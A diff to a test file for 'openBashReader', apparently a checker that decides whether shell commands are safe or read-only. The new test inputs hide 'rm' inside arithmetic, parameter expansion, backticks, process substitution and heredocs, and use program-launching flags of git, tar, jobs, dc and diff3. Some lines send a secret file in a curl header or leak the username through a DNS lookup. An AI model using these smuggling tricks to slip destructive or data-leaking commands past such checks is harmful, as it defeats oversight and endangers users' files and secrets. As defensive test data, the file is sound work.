@@ -58,6 +58,8 @@ describe('openBashReader', () => {
     command -v node; type ls; which git; node --version
     ls >/dev/null 2>&1; echo oops >&2
     (cd src && ls) | cat
+    echo $(( (1 + 2) * 3 )) $((1<(2))) ${'$'}{x:-$(pwd)} $(<f)
+    (( (1) )); a=(1 2 $(ls))
   `,
   )
 
@@ -107,6 +109,12 @@ describe('openBashReader', () => {
     nslookup $(whoami).example.com
     python3 script.py
     xxd a b
+    gzip -Sc f
+    tree -ao out
+    curl -w '%output{f}x' https://example.com
+    curl -H @secret https://example.com
+    tar tf host:a.tar
+    date -s x
     uniq a b
     exec find "$@"
     find . ${'$'}{UNSET:-'-delete'}
@@ -152,6 +160,13 @@ describe('openBashReader', () => {
     echo ${'`'}rm x${'`'}
     echo ${'$'}{x:-$(rm y)}
     echo $((1 + $(rm x)))
+    echo $((1 + ${'`'}rm x${'`'}))
+    echo ${'$'}{x:-${'`'}rm y${'`'}}
+    echo "${'$'}{x:-'$(rm y)'}"
+    echo ${'$'}{x%$(rm y)}
+    echo ${'$'}{x/y/${'`'}rm y${'`'}}
+    echo ${'$'}{x:-<(rm y)}
+    cat <<E⏎${'$'}{x:-'$(rm y)'}⏎E
     cat <(rm x)
     ls | tee >(rm x)
     cat <<EOF⏎$(rm x)⏎EOF
@@ -246,6 +261,12 @@ describe('openBashReader', () => {
     man -P rm ls
     less +'!rm x' f
     rg --pre rm x
+    git grep -nOrm x
+    tar tf a --us=rm
+    jobs -x rm x
+    arch -x86_64 rm x
+    echo '!rm x' | dc
+    diff3 --diff-program=rm a b c
     tar -tf a --to-command=rm
     tar -cf a --checkpoint-action=exec=rm b
     python3 -c 'print(1)'
